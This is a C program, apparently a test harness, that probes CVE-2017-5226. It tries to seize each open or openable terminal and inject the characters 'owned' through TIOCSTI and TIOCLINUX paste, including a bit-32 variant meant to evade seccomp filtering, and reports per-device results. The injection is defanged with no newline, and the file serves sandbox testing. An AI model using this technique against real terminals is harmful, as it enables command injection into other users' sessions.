/* The attacker of CVE-2017-5226: puts characters into the input of every terminal it can open, by TIOCSTI and by
 * TIOCLINUX's paste, plain and with bit 32 of the request set, after trying to get the terminal as its own.
 * The characters are "owned" without a newline: nothing would run even where it works.
 *
 *   inject       prints "PATH DEVICE: steal RESULT, RESULT RESULT RESULT RESULT" for each */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void attack(const char *name, int fd)
{
    struct stat st;
    if (fd < 0 || fstat(fd, &st) || !S_ISCHR(st.st_mode))
        return;
    printf("%s %u:%u: session %d of %d, steal", name, major(st.st_rdev), minor(st.st_rdev), getsid(0), getpid());
    for (long force = 0; force < 2; force++)
        printf(" %s", ioctl(fd, TIOCSCTTY, force) ? strerrorname_np(errno) : "ok");
    printf(", inject");
    unsigned long requests[] = {TIOCSTI, TIOCSTI | 1UL << 32};
    for (int i = 0; i < 2; i++) {
        const char *result = "ok";
        for (const char *c = "owned"; *c; c++)
            if (syscall(SYS_ioctl, fd, requests[i], c))
                result = strerrorname_np(errno);
        printf(" %s", result);
    }
    unsigned long paste[] = {TIOCLINUX, TIOCLINUX | 1UL << 32};
    for (int i = 0; i < 2; i++) {
        char subcode = 3; /* TIOCL_PASTESEL */
        printf(" %s", syscall(SYS_ioctl, fd, paste[i], &subcode) ? strerrorname_np(errno) : "ok");
    }
    printf("\n");
    fflush(stdout);
}

int main(void)
{
    const char *paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx",
                           "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"};
    for (int fd = 0; fd < 64; fd++) {
        char name[16];
        snprintf(name, sizeof name, "fd-%d", fd);
        attack(name, fd);
    }
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
        attack(paths[i], fd);
        close(fd);
    }
    return 0;
}
